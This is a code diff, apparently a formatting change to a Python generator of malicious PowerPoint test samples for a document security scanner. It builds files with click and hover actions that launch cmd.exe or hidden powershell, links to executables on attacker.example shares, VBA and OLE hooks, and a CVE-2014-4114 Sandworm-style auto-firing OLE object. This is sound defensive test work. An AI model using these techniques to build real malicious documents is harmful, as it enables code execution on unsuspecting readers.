@@ -33,43 +33,71 @@ def _pptx_action(action: str, target: str | None, element: str = "hlinkClick") -
     package.put(SLIDE, slide)
     return package.bytes()
 
+
 @sample("pptx_benign", ".pptx", "control", "python-pptx presentation", Expect.RELEASED)
 def pptx_benign(work: Path) -> bytes:
     return base.pptx_bytes()
 
-@sample("pptx_ppaction_program", ".pptx", "ppaction", "§21.1.2.3.5 hlinkClick action ppaction://program (mouse-click run)")
+
+@sample(
+    "pptx_ppaction_program",
+    ".pptx",
+    "ppaction",
+    "§21.1.2.3.5 hlinkClick action ppaction://program (mouse-click run)",
+)
 def pptx_ppaction_program(work: Path) -> bytes:
     return _pptx_action("ppaction://program", "file:///C:/Windows/System32/cmd.exe")
 
-@sample("pptx_ppaction_program_hover", ".pptx", "ppaction", "§21.1.2.3.6 hlinkHover: runs on mouse-over (PowerPoint mouseover malware, 2017)")
+
+@sample(
+    "pptx_ppaction_program_hover",
+    ".pptx",
+    "ppaction",
+    "§21.1.2.3.6 hlinkHover: runs on mouse-over (PowerPoint mouseover malware, 2017)",
+)
 def pptx_ppaction_program_hover(work: Path) -> bytes:
     return _pptx_action("ppaction://program", "powershell.exe -nop -w hidden -c calc", "hlinkHover")
+
 
 @sample("pptx_ppaction_macro", ".pptx", "ppaction", "[MS-PPTX] ppaction://macro?name= runs a VBA macro")
 def pptx_ppaction_macro(work: Path) -> bytes:
     return _pptx_action("ppaction://macro?name=AutoOpen", None)
 
+
 @sample("pptx_ppaction_ole", ".pptx", "ppaction", "[MS-PPTX] ppaction://ole?verb=0 activates an OLE object")
 def pptx_ppaction_ole(work: Path) -> bytes:
     return _pptx_action("ppaction://ole?verb=0", None)
+
 
 @sample("pptx_hlinkfile_unc", ".pptx", "ppaction", "ppaction://hlinkfile to a UNC executable")
 def pptx_hlinkfile_unc(work: Path) -> bytes:
     return _pptx_action("ppaction://hlinkfile", "\\\\attacker.example\\share\\x.exe")
 
-@sample("pptx_hyperlink_javascript", ".pptx", "external-relationship", "hyperlink relationship with a javascript: target")
+
+@sample(
+    "pptx_hyperlink_javascript",
+    ".pptx",
+    "external-relationship",
+    "hyperlink relationship with a javascript: target",
+)
 def pptx_hyperlink_javascript(work: Path) -> bytes:
     return _pptx_action("", "javascript:alert(1)")
 
-@sample("pptx_external_video", ".pptx", "external-relationship", "§20.1.3.6 videoFile r:link to a remote file")
+
+@sample(
+    "pptx_external_video", ".pptx", "external-relationship", "§20.1.3.6 videoFile r:link to a remote file"
+)
 def pptx_external_video(work: Path) -> bytes:
     package = base.Package(base.pptx_bytes())
     package.add_rel(SLIDE_RELS, "rIdVid", RT + "video", "\\\\attacker.example\\share\\v.mp4", True)
     slide = package.text(SLIDE).replace(
-        '<p:nvPr><p:ph type="title"/></p:nvPr>', '<p:nvPr><p:ph type="title"/><a:videoFile r:link="rIdVid"/></p:nvPr>', 1
+        '<p:nvPr><p:ph type="title"/></p:nvPr>',
+        '<p:nvPr><p:ph type="title"/><a:videoFile r:link="rIdVid"/></p:nvPr>',
+        1,
     )
     package.put(SLIDE, slide)
     return package.bytes()
+
 
 @sample("pptx_oleobject_mhtml", ".pptx", "external-relationship", "CVE-2021-40444 style oleObject in a slide")
 def pptx_oleobject_mhtml(work: Path) -> bytes:
@@ -85,17 +113,22 @@ def pptx_oleobject_mhtml(work: Path) -> bytes:
     package.put(SLIDE, package.text(SLIDE).replace("</p:spTree>", frame + "</p:spTree>", 1))
     return package.bytes()
 
+
 @sample("pptm_vba", ".pptm", "macros", "[MS-OFFMACRO] vbaProject in a macro-enabled presentation")
 def pptm_vba(work: Path) -> bytes:
     return vba_everywhere(
-        base.Package(base.pptx_bytes()), "ppt", "ppt/_rels/presentation.xml.rels",
+        base.Package(base.pptx_bytes()),
+        "ppt",
+        "ppt/_rels/presentation.xml.rels",
         "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
         "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
     )
 
+
 @sample("pptx_customui_onload", ".pptx", "customui", "[MS-CUSTOMUI] onLoad in a presentation")
 def pptx_customui_onload(work: Path) -> bytes:
     return with_customui(base.Package(base.pptx_bytes()))
+
 
 @sample("pptx_run_level_ppaction", ".pptx", "ppaction", "§21.1.2.3.5 hlinkClick inside a text run's a:rPr")
 def pptx_run_level_ppaction(work: Path) -> bytes:
@@ -103,20 +136,32 @@ def pptx_run_level_ppaction(work: Path) -> bytes:
     package.add_rel(SLIDE_RELS, "rIdRun", RT + "hyperlink", "file:///C:/Windows/System32/cmd.exe", True)
     slide = package.text(SLIDE).replace(
         "<a:r><a:t>熊出没注意</a:t></a:r>",
-        '<a:r><a:rPr lang="ja-JP"><a:hlinkClick r:id="rIdRun" action="ppaction://program"/></a:rPr><a:t>熊出没注意</a:t></a:r>', 1,
+        '<a:r><a:rPr lang="ja-JP"><a:hlinkClick r:id="rIdRun" action="ppaction://program"/></a:rPr><a:t>熊出没注意</a:t></a:r>',
+        1,
     )
     package.put(SLIDE, slide)
     return package.bytes()
 
-@sample("pptx_ppaction_uppercase", ".pptx", "ppaction", "RFC 3986 §3.1: the scheme 'PPACTION' is case-insensitive")
+
+@sample(
+    "pptx_ppaction_uppercase", ".pptx", "ppaction", "RFC 3986 §3.1: the scheme 'PPACTION' is case-insensitive"
+)
 def pptx_ppaction_uppercase(work: Path) -> bytes:
     return _pptx_action("PPACTION://PROGRAM", "file:///C:/Windows/System32/calc.exe")
+
 
 def _sandworm(suffix_main: str | None) -> bytes:
     """An embedded Packager object plus a slide timing node that fires its verb when the show starts."""
     package = base.Package(base.pptx_bytes())
-    add_part(package, "ppt/embeddings/oleObject1.bin", packager_ole1(),
-              "application/vnd.openxmlformats-officedocument.oleObject", SLIDE_RELS, "rIdOle", RT + "oleObject")
+    add_part(
+        package,
+        "ppt/embeddings/oleObject1.bin",
+        packager_ole1(),
+        "application/vnd.openxmlformats-officedocument.oleObject",
+        SLIDE_RELS,
+        "rIdOle",
+        RT + "oleObject",
+    )
     frame = (
         '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="9" name="Object 8"/><p:cNvGraphicFramePr/><p:nvPr/>'
         '</p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/><a:ext cx="1" cy="1"/></p:xfrm><a:graphic>'
@@ -131,29 +176,67 @@ def _sandworm(suffix_main: str | None) -> bytes:
     slide = package.text(SLIDE).replace("</p:spTree>", frame + "</p:spTree>", 1)
     package.put(SLIDE, slide.replace("</p:clrMapOvr>", "</p:clrMapOvr>" + timing, 1))
     if suffix_main:
-        package.main_type("application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml", suffix_main)
+        package.main_type(
+            "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml", suffix_main
+        )
     return package.bytes()
 
-@sample("pptx_sandworm_ole_verb", ".pptx", "ole-embedding", "CVE-2014-4114 (Sandworm): Packager OLE + p:cmd type=verb on show start")
+
+@sample(
+    "pptx_sandworm_ole_verb",
+    ".pptx",
+    "ole-embedding",
+    "CVE-2014-4114 (Sandworm): Packager OLE + p:cmd type=verb on show start",
+)
 def pptx_sandworm_ole_verb(work: Path) -> bytes:
     return _sandworm(None)
 
-@sample("ppsx_sandworm_ole_verb", ".ppsx", "ole-embedding", "CVE-2014-4114 as .ppsx: opens straight into the slide show")
+
+@sample(
+    "ppsx_sandworm_ole_verb",
+    ".ppsx",
+    "ole-embedding",
+    "CVE-2014-4114 as .ppsx: opens straight into the slide show",
+)
 def ppsx_sandworm_ole_verb(work: Path) -> bytes:
     return _sandworm("application/vnd.openxmlformats-officedocument.presentationml.slideshow.main+xml")
+
 
 def _pptx_part_action(part: str, rels: str) -> bytes:
     package = base.Package(base.pptx_bytes())
     package.add_rel(rels, "rIdAct", RT + "hyperlink", "file:///C:/Windows/System32/cmd.exe", True)
     text = package.text(part)
-    package.put(part, re.sub(r'(<p:cNvPr id="\d+" name="[^"]*")/>',
-                             r'\1><a:hlinkHover r:id="rIdAct" action="ppaction://program"/></p:cNvPr>', text, count=1))
+    package.put(
+        part,
+        re.sub(
+            r'(<p:cNvPr id="\d+" name="[^"]*")/>',
+            r'\1><a:hlinkHover r:id="rIdAct" action="ppaction://program"/></p:cNvPr>',
+            text,
+            count=1,
+        ),
+    )
     return package.bytes()
 
-@sample("pptx_layout_ppaction", ".pptx", "ppaction", "§19.3.1.39 slide layout shapes act on every slide that uses the layout")
-def pptx_layout_ppaction(work: Path) -> bytes:
-    return _pptx_part_action("ppt/slideLayouts/slideLayout2.xml", "ppt/slideLayouts/_rels/slideLayout2.xml.rels")
 
-@sample("pptx_master_ppaction", ".pptx", "ppaction", "§19.3.1.42 slide master shape with a mouse-over program action")
+@sample(
+    "pptx_layout_ppaction",
+    ".pptx",
+    "ppaction",
+    "§19.3.1.39 slide layout shapes act on every slide that uses the layout",
+)
+def pptx_layout_ppaction(work: Path) -> bytes:
+    return _pptx_part_action(
+        "ppt/slideLayouts/slideLayout2.xml", "ppt/slideLayouts/_rels/slideLayout2.xml.rels"
+    )
+
+
+@sample(
+    "pptx_master_ppaction",
+    ".pptx",
+    "ppaction",
+    "§19.3.1.42 slide master shape with a mouse-over program action",
+)
 def pptx_master_ppaction(work: Path) -> bytes:
-    return _pptx_part_action("ppt/slideMasters/slideMaster1.xml", "ppt/slideMasters/_rels/slideMaster1.xml.rels")
+    return _pptx_part_action(
+        "ppt/slideMasters/slideMaster1.xml", "ppt/slideMasters/_rels/slideMaster1.xml.rels"
+    )
